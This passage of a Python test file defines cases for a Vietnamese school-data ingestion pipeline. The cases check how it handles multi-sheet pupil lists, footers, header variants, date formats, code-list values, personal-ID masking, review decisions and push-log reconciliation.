         sheet="Năm nay", at=((None, None),)),
    Case("a school with hostile characters in its name sends its assessment",
         "cds_assessment/ten_doc_hai.xlsx", lambda p: cds(p, school="31000006"), "accepted",
         rows_read=1),
    Case("one sheet per class: read as one list", "students/moi_lop_mot_trang.xlsx",
         emis_grid([], sheets=[
             ("Lớp 3A", student_rows([student_row(30)], "07/10/2024"), False),
             ("Lớp 3B", student_rows([student_row(31)], "07/10/2024"), False)]),
         "warning", "sheets_combined", "đọc gộp thành một bảng: 'Lớp 3A', 'Lớp 3B'",
         rows_read=2,
         landed=_landed("select string_agg(_sheet || ':' || _row, ',' order by _sheet) "
                        "from landing.students where _source_file = ?", "Lớp 3A:7,Lớp 3B:7"),
         sheet="Lớp 3A", at=((None, None),)),
    Case("one sheet per class: a bad row is named with its own sheet", "students/lop_loi.xlsx",
         emis_grid([], sheets=[
             ("Lớp 4A", student_rows([student_row(32), student_row(33)], "08/10/2024"), False),
             ("Lớp 4B", student_rows([student_row(34, **{"Mã học sinh": ""})], "08/10/2024"),
              False)]),
         "quarantined", "required_missing", "Thiếu mã học sinh", rows_read=3,
         landed=_landed("select string_agg(sheet || ':' || \"row\", ',') from audit.quarantined_rows "
                        "where source_file = ?", "Lớp 4B:7"),
         sheet="Lớp 4A", at=((7, "Mã học sinh"),)),
    # footers and repeated headers
    Case("total line, signature block and signer's name under a pupil list",
         "students/chu_ky.xlsx",
         emis_grid(student_rows([student_row(40), student_row(41),
                                 ["Tổng cộng: 2 học sinh"], [],
                                 [None, "Người lập biểu"], [None, "(Ký, ghi rõ họ tên)"], [],
                                 [None, "Trần Văn Ký"]], "08/10/2024")),
         "warning", "table_end", "Bảng kết thúc ở dòng 11", rows_read=2,
         landed=_landed("select count(*) from landing.students where _source_file = ?", 2),
         at=((None, None),)),  # the row is in the message
    Case("repeated header row in a long list", "students/tieu_de_lap.xlsx",
         emis_grid(student_rows([student_row(50), COLUMNS["students"], student_row(51)],
                                "09/10/2024")),
         "warning", "repeated_header_skipped", "Bỏ qua 1 dòng tiêu đề lặp lại", rows_read=2,
         at=((None, None),)),
    # headers real schools write
    Case("'TRONG ĐÓ: NỮ', 'Tổng số (*)', numbered headers", "emis_report/tieu_de_la.xlsx",
         emis_grid(emis_rows(columns=["Mã số\n(1)", "Chỉ tiêu\n(2)", "Tổng số (*)",
                                      "TRONG ĐÓ: NỮ", "Dân tộc\n(5)"], day="28/05/2025")),
         "accepted", rows_read=3, landed=_landed(FEMALE_OF, 150)),
    Case("two-level header ('Số lượng' above the counts)", "emis_report/hai_tang.xlsx",
         emis_grid(emis_rows(columns=["Mã số", "Chỉ tiêu", "Số lượng", None, None],
                             body=[[None, None, "Tổng số", "Nữ", "Dân tộc"], *EMIS_ROWS],
                             day="29/05/2025")),
         "accepted", rows_read=3, landed=_landed(FEMALE_OF, 150)),
    Case("header below row 60", "emis_report/tieu_de_thap.xlsx",
         emis_grid(emis_rows(gap=70, day="30/05/2025")), "accepted", rows_read=3),
    Case("';'-separated CSV (Vietnamese regional settings)", "students/cham_phay.csv",
         emis_grid(student_rows([student_row(60), student_row(61)], "10/10/2024"), csv_sep=";"),
         "accepted", rows_read=2, landed=_landed(CLASS_OF, "Ba Ánh Dương")),
    Case("tab-separated CSV", "students/tab.csv",
         emis_grid(student_rows([student_row(62)], "11/10/2024"), csv_sep="\t"),
         "accepted", rows_read=1, landed=_landed(CLASS_OF, "Ba Ánh Dương")),
    # personal data never becomes an issue's value
    Case("personal ID used as the pupil code, written twice", "students/ma_la_cccd.xlsx",
         _students([student_row(70, **{"Mã học sinh": "031216000070"}),
                    student_row(71, **{"Mã học sinh": "031216000070"})], day="13/10/2024"),
         "quarantined", "duplicate_student_code", "bị trùng trong tệp", rows_read=2,
         landed=_landed("select string_agg(value, '|') from audit.ingest_issues "
                        "where source_file = ? and rule_id = 'duplicate_student_code'",
                        "031… (12 chữ số)"),
         at=((8, "Mã học sinh"),)),
    # issues are capped per file and rule
    Case("300 malformed IDs: 200 issues and a summary", "students/nhieu_loi.csv",
         _text(students_csv_text([student_row(100 + i, **{"Số định danh cá nhân": "12"})
                                  for i in range(300)], day="12/10/2024"), "utf-8"),
         "warning", "id_wrong_format", "đúng 12 chữ số", rows_read=300,
         landed=_landed(ISSUES_OF + "'id_wrong_format'", 201),
         at=((None, ID), *((r, ID) for r in range(7, 207)))),
    # issue 14, class 9: dates as schools write them, and dates that cannot be right
    Case("two-digit year in the submission date (15/10/24)", "emis_report/nam_hai_so.xlsx",
         lambda p: emis(p, school=MN, day="15/10/24"), "accepted", rows_read=3,
         landed=_landed(SUBMITTED_OF, "2024-10-15")),
    Case("submission date with a time", "emis_report/ngay_gio.xlsx",
         lambda p: emis(p, school=MN, day="05/10/2024 14:30"), "accepted", rows_read=3,
         landed=_landed(SUBMITTED_OF, "2024-10-05")),
    Case("submission date in words", "emis_report/ngay_bang_chu.xlsx",
         lambda p: emis(p, school=MN, day="Hà Nội, ngày 06 tháng 10 năm 2024"), "accepted",
         rows_read=3, landed=_landed(SUBMITTED_OF, "2024-10-06")),
    Case("submission date after the run date", "emis_report/ngay_tuong_lai.xlsx",
         lambda p: emis(p, school=MN, day="05/10/2099"),
         "warning", "implausible_submission_date", "sau ngày chạy", rows_read=3,
         landed=_landed(SUBMITTED_OF, None),
         at=((None, "Ngày báo cáo"),)),
    Case("submission date before its school year (year typed wrong)", "emis_report/ngay_nam_truoc.xlsx",
         lambda p: emis(p, school=MN, day="07/10/2023"),
         "warning", "implausible_submission_date", "trước năm học 2024-2025", rows_read=3,
         landed=_landed(SUBMITTED_OF, None),
         at=((None, "Ngày báo cáo"),)),
    Case("birth date with a two-digit year", "students/sinh_hai_so.xlsx",
         _students([student_row(80, **{"Ngày sinh": "12/03/16"})], day="14/10/2024"),
         "accepted", rows_read=1,
         landed=_landed("select min(birth_year) from landing.students where _source_file = ?", 2016)),
    # class 10: values outside a code list are mapped or named, never a silent no
    Case("ticks, TRUE, 1, 'Đã có' for 'Có' in the staff export", "teachers/dau_tick.xlsx",
         lambda p: teachers(p, [teacher_row(i, **{"Chữ ký số": v})
                                for i, v in enumerate(["X", "✓", "√", "TRUE", "1", "Đã có"], 1)],
                            day="01/10/2024"),
         "accepted", rows_read=6, landed=_landed(SIGNED_OF, 6)),
    Case("a yes/no value nobody listed", "teachers/gia_tri_la.xlsx",
         lambda p: teachers(p, [teacher_row(10, **{"Chữ ký số": "Đã cài USB token"})],
                            day="02/10/2024"),
         "warning", "value_not_in_code_list", "coi như KHÔNG có", rows_read=1,
         landed=_landed(SIGNED_OF, 0),
         at=((7, "Chữ ký số"),)),
    Case("learning results written as results or 'Đã nhập'", "students/ket_qua.xlsx",
         _students([student_row(81, **{"KQHT HK1": "Đã nhập"}),
                    student_row(82, **{"KQHT HK1": "Hoàn thành tốt"})], day="15/10/2024"),
         "accepted", rows_read=2,
         landed=_landed("select count(*) filter (where results_hk1) from landing.students "
                        "where _source_file = ?", 2)),
    Case("a learning-results value nobody listed", "students/ket_qua_la.xlsx",
         _students([student_row(83, **{"KQHT HK1": "xong"})], day="16/10/2024"),
         "warning", "value_not_in_code_list", "coi như CHƯA có kết quả học tập", rows_read=1,
         at=((7, "KQHT HK1"),)),
    Case("statuses 'Lưu ban', 'Bảo lưu' and one nobody listed", "students/trang_thai.xlsx",
         _students([student_row(84, **{"Trạng thái": "Lưu ban"}),
                    student_row(85, **{"Trạng thái": "Bảo lưu"}),
                    student_row(86, **{"Trạng thái": "Học lại"})], day="17/10/2024"),
         "warning", "invalid_status", "coi như đang học/đang làm việc (được tính)", rows_read=3,
         landed=_landed(ACTIVE_OF, "[true, false, true]"),
         at=((9, "Trạng thái"),)),
    # class 11: a bad optional cell is a warning on that cell; the row's total stays
    Case("dashes for zero in the breakdown columns", "emis_report/gach_ngang.xlsx",
         emis_grid(emis_rows(school=MN, day="31/05/2025", body=[
             ["101", "Tổng số lớp", 10, "-", "—"], ["201", "Tổng số học sinh", 300, 150, "–"]])),
         "accepted", rows_read=2,
         landed=_landed("select sum(ethnic)::varchar || '/' || sum(total) from landing.emis_report "
                        "where _source_file = ?", "0/310")),
    Case("a note in the 'Nữ' column", "emis_report/ghi_chu_nu.xlsx",
         emis_grid(emis_rows(school=TH, day="01/06/2025", body=[
             ["201", "Tổng số học sinh", 300, "chưa thống kê", 12]])),
         "warning", "invalid_optional_count", "'Tổng số' của dòng vẫn được nhận", rows_read=1,
         landed=_landed("select sum(total) from landing.emis_report where _source_file = ?", 300),
         at=((7, "Nữ"),)),
    Case("a note in the CĐS numerator", "cds_assessment/tu_so_ghi_chu.xlsx",
         lambda p: cds(p, school=THCS, rows=[["1.3.1", "Nội dung", "4", "khoảng 30", "40", "LMS"]]),
         "warning", "invalid_optional_count", "điểm tự đánh giá vẫn được nhận", rows_read=1,
         landed=_landed("select self_score from landing.cds_assessment where _source_file = ?", 4.0),
         at=((8, "Tử số"),)),
    # class 8: a marker word in a real row's label never ends or thins the table
    Case("label column first, a row labelled 'Tổng cộng …' with its code", "emis_report/nhan_truoc.xlsx",
         emis_grid(emis_rows(school=MN, day="02/06/2025",
                             columns=["Chỉ tiêu", "Mã số", "Tổng số", "Nữ", "Dân tộc"],
                             body=[["Tổng cộng số lớp", "101", 10, None, None],
                                   ["Số lớp khối 1", "111", 2, None, None],
                                   ["Tổng cộng", None, 12, None, None]])),
         "warning", "total_row_skipped", "Bỏ qua 1 dòng tổng cộng", rows_read=2,
         landed=_landed("select string_agg(indicator_code, ',' order by _row) from landing.emis_report "
                        "where _source_file = ?", "101,111"),
         at=((None, None),)),
    # class 6: a personal ID never lands as a code, and a data row is never quoted
    Case("personal ID used as the pupil code", "students/ma_la_cccd_1.xlsx",
         _students([student_row(87, **{"Mã học sinh": "031216000087"})], day="18/10/2024"),
         "warning", "code_is_personal_id", "đã thay bằng bí danh", rows_read=1,
         landed=_landed("select count(*) from landing.students where _source_file = ? "
                        "and student_code like 'BD-%' and student_code not like '%031216%'", 1),
         at=((7, "Mã học sinh"),)),
    # layouts (issue 18, contract §2.8): CSDL ngành's own downloads, school from the folder
    Case("C1-HocSinh download (no header block, school from its folder)",
         f"{C1_DIR}/{TH}/C1-HocSinh.xlsx", _c1([c1_row(1), c1_row(2)]),
         "accepted", rows_read=2, landed=_landed(LAYOUT_OF, "C1-HocSinh")),
    Case("C1 download with a status the layout does not list", f"{C1_DIR}/{MN}/C1-HocSinh.xlsx",
         _c1([c1_row(3), c1_row(4, status="Bảo lưu KQ"), c1_row(5)]),
         "quarantined", "layout_unknown_value",
         "Giá trị 'Bảo lưu KQ' ở cột 'Trạng thái HS' không có trong bảng mã của bố cục "
         "'C1-HocSinh'", rows_read=3, at=((3, "Trạng thái HS"),)),
    Case("C1 download not in a school's folder", f"{C1_DIR}/C1-HocSinh.xlsx", _c1([c1_row(6)]),
         "rejected", "layout_folder_missing",
         "Bố cục 'C1-HocSinh' lấy 'Mã trường' từ thư mục thứ 3 dưới raw/students/"),
    Case("C1 download in a folder naming a school not in the registry",
         f"{C1_DIR}/31999999/C1-HocSinh.xlsx", _c1([c1_row(7)]),
         "rejected", "unknown_school",
         "Mã trường '31999999' lấy từ thư mục '31999999' (thư mục thứ 3 của đường dẫn, bố cục "
         "'C1-HocSinh') không có trong danh mục trường"),
    Case("CSDL_GiaoVien download (72 columns, only the marts' read)",
         f"teachers/{YEAR}/dau_nam/{THCS}/CSDL_GiaoVien.xlsx", _csdl_staff,
         "accepted", rows_read=1, landed=_landed(LAYOUT_OF, "CSDL_GiaoVien")),
    Case("no header found in a pupil list: the data row is not quoted", "students/khong_tieu_de.xlsx",
         emis_grid([*[[f"{k}:", v] for k, v in _people_header(day="19/10/2024")], [],
                    ["Mã HS", "Họ và tên", "Ngày sinh"],
                    [f"{TH}00088", "Nguyễn Thị Bí Mật", "12/03/2016", "Nữ", "Kinh", "3"]]),
         "rejected", "missing_required_column", "trông như dòng dữ liệu (không trích)"),
    # the office's review decisions (issue 19, contract §2.6): rows are quarantined naming
    # the row and column, a blank decision is accepted with no effect
    Case("review: blank decision rows of a worksheet", "cds_review/phieu_trong.csv",
         review([review_row(decision=None, day=None), review_row(indicator=None, decision=None, day=None)]),
         "accepted", rows_read=2, sheet=None,
         landed=_landed("select count(*) from landing.cds_review where _source_file = ? "
                        "and decision is null", 2)),
    Case("review: decision word unknown", "cds_review/ket_qua_la.csv",
         review([review_row(), review_row(decision="Duyệt")]),
         "quarantined", "invalid_decision", "Kết quả thẩm định không hợp lệ", rows_read=2,
         sheet=None, at=((3, "Kết quả thẩm định"),)),
    Case("review: adjustment without a score", "cds_review/dieu_chinh_thieu_diem.csv",
         review([review_row(decision="Điều chỉnh", reason="Thiếu minh chứng")]),
         "quarantined", "required_missing", "Điều chỉnh cần 'Điểm thẩm định'", rows_read=1,
         sheet=None, at=((2, "Điểm thẩm định"),)),
    Case("review: adjustment of the whole assessment", "cds_review/dieu_chinh_ca_phieu.csv",
         review([review_row(indicator=None, decision="Điều chỉnh", score=50, reason="x")]),
         "quarantined", "adjust_whole_assessment", "Điều chỉnh chỉ dùng cho từng tiêu chí",
         rows_read=1, sheet=None, at=((2, "Kết quả thẩm định"),)),
    Case("review: rejection without a reason", "cds_review/khong_ly_do.csv",
         review([review_row(decision="Không đồng ý")]),
         "quarantined", "required_missing", "cần ghi 'Lý do'", rows_read=1, sheet=None,
         at=((2, "Lý do"),)),
    Case("review: school not in the registry", "cds_review/truong_la.csv",
         review([review_row(school="31999999")]),
         "quarantined", "unknown_school", "không có trong danh mục trường", rows_read=1,
         sheet=None, at=((2, "Mã trường"),)),
    Case("review: indicator not in the index", "cds_review/tieu_chi_la.csv",
         review([review_row(indicator="9.9.9")]),
         "quarantined", "unknown_indicator", "không có trong bộ chỉ số", rows_read=1,
         sheet=None, at=((2, "Mã tiêu chí"),)),
    Case("review: decision without a date", "cds_review/khong_ngay.csv",
         review([review_row(day=None)]),
         "quarantined", "required_missing", "Thiếu 'Ngày thẩm định'", rows_read=1, sheet=None,
         at=((2, "Ngày thẩm định"),)),
    Case("review: adjusted score above the maximum (capped)", "cds_review/vuot_toi_da.csv",
         review([review_row(decision="Điều chỉnh", score=99, reason="Bổ sung minh chứng")]),
         "warning", "reviewed_score_above_max", "được tính bằng điểm tối đa", rows_read=1,
         sheet=None, at=((2, "Điểm thẩm định"),)),
    Case("review: a required column missing", "cds_review/thieu_cot.csv",
         review([review_row()[:7]], columns=REVIEW_COLUMNS[:7]),
         "rejected", "missing_required_column", "Ngày thẩm định", sheet=None),
    # the push history (contract §2.7, issue 20): each kind of push lands where the contract
    # says, with its Vietnamese message (values written out by hand)
    Case("push log: a failed push", "sync_log/2024-2025/day_loi.xlsx",
         sync_log([push(TH, "Học sinh", "Đẩy lỗi", (300, 0, 300), "20/09/2024 08:00")]),
         "accepted", rows_read=1,
         landed=_landed(SYNC_ISSUE_OF + "'sync_push_failed'",
                        "Đẩy dữ liệu lên CSDL ngành chưa thành công (Đẩy lỗi): đợt Học sinh, học "
                        "kỳ 1, giai đoạn GK1, năm học 2024-2025, phần mềm SMAS: 0/300 bản ghi "
                        "thành công, 300 thất bại; trường sửa các bản ghi lỗi trên phần mềm quản "
                        "lý nhà trường rồi đẩy lại")),
    Case("push log: a partial push", "sync_log/2024-2025/day_mot_phan.xlsx",
         sync_log([push(THCS, "Giáo viên", "Tổng hợp lỗi", (20, 18, 2), "21/09/2024 09:30")]),
         "accepted", rows_read=1,
         landed=_landed(SYNC_ISSUE_OF + "'sync_push_partial'",
                        "Đẩy dữ liệu lên CSDL ngành chưa thành công (Tổng hợp lỗi): đợt Giáo "
                        "viên, học kỳ 1, giai đoạn GK1, năm học 2024-2025, phần mềm SMAS: 18/20 "
                        "bản ghi thành công, 2 thất bại; trường sửa các bản ghi lỗi trên phần "
                        "mềm quản lý nhà trường rồi đẩy lại")),
    # a failed attempt, then the same push again two hours later: the second is current,
    # 2 pushes seen, 100 %, and no issue (the failed attempt is no longer current)
    Case("push log: a repeated push", "sync_log/2024-2025/day_lai.xlsx",
         sync_log([push(ALONE, "Lớp học", "Đẩy lỗi", (10, 0, 10), "22/09/2024 08:00"),
                   push(ALONE, "Lớp học", "Đẩy thành công", (10, 10, 0), "22/09/2024 10:00")]),
         "accepted", rows_read=2,
         landed=_landed(SYNC_CURRENT_OF.format(school=ALONE), "success 2 100.0 0")),
    # a school that pushed its classes of term 1 only: its staff of term 1 are missing (the
    # window 05/09/2024 – 15/10/2024 of sync_calendar.csv closed long before the run)
    Case("push log: a missing push", "sync_log/2024-2025/thieu_dot.xlsx",
         sync_log([push(TALLY, "Lớp học", "Đẩy thành công", (8, 8, 0), "23/09/2024 08:00")]),
         "accepted", rows_read=1,
         landed=_landed(SYNC_MISSING_OF.format(school=TALLY),
                        "Chưa đẩy dữ liệu lên CSDL ngành: đợt Giáo viên, học kỳ 1, năm học "
                        "2024-2025 (mở từ 05/09/2024, hạn 15/10/2024, quá hạn … ngày): lịch sử "
                        "đẩy dữ liệu không có lần đẩy nào của trường | missing_push 15/10/2024")),
    Case("push log: a school not in the registry", "sync_log/2024-2025/truong_la.xlsx",
         sync_log([push("31999999", "Học sinh", "Đẩy thành công", (5, 5, 0), "24/09/2024 08:00"),
                   push(TH, "Giáo viên", "Đẩy thành công", (1, 1, 0), "24/09/2024 09:00")]),
         "quarantined", "unknown_school", "Mã trường không có trong danh mục trường",
         rows_read=2, at=((4, "Mã trường"),)),
    Case("push log: counts that do not add up", "sync_log/2024-2025/lech_so.xlsx",
         sync_log([push(TH, "Kết quả học tập", "Tổng hợp lỗi", (9, 5, 3), "25/09/2024 08:00",
                        stage="CK1")]),
         "warning", "sync_counts_mismatch", "'Thành công' + 'Thất bại' khác 'Đẩy lên bộ'",
         rows_read=1, at=((4, "Đẩy lên bộ"),),
         # the warning names its row's school: the follow-up list can ask that school
         landed=_landed("select school_code || ' ' || school_year from marts.data_quality_issues"
                        " where source_file = ? and rule_id = 'sync_counts_mismatch'",
                        f"{TH} {YEAR}")),
    # the rules pushed_vs (family across_sync): 10 pupils pushed, the school's export of the
    # start of the year has 4 active and its report says 201 = 4: |10 − 4| / 4 > 5 %, twice
    Case("pupils' export of a school that pushed more", f"students/{YEAR}/{PUSHED}.xlsx",
         lambda p: students(p, [student_row(i, **{"Khối": "1"}) for i in range(901, 905)],
                            school=PUSHED),
         "accepted", rows_read=4),
    Case("report of a school that pushed more", f"emis_report/{YEAR}/{PUSHED}.xlsx",
         lambda p: emis(p, rows=[["201", "Tổng số học sinh", 4, 2, 0]], school=PUSHED),
         "accepted", rows_read=1),
    Case("push log: pupils pushed against the export and the report",
         "sync_log/2024-2025/lech_nguon.xlsx",
         sync_log([push(PUSHED, "Học sinh", "Đẩy thành công", (10, 10, 0), "26/09/2024 08:00")]),
         "accepted", rows_read=1,
         landed=_landed(SYNC_RULES_OF,
                        "students_pushed_vs_export 10 / 4; students_pushed_vs_report 10 / 4")),
]
# fmt: on
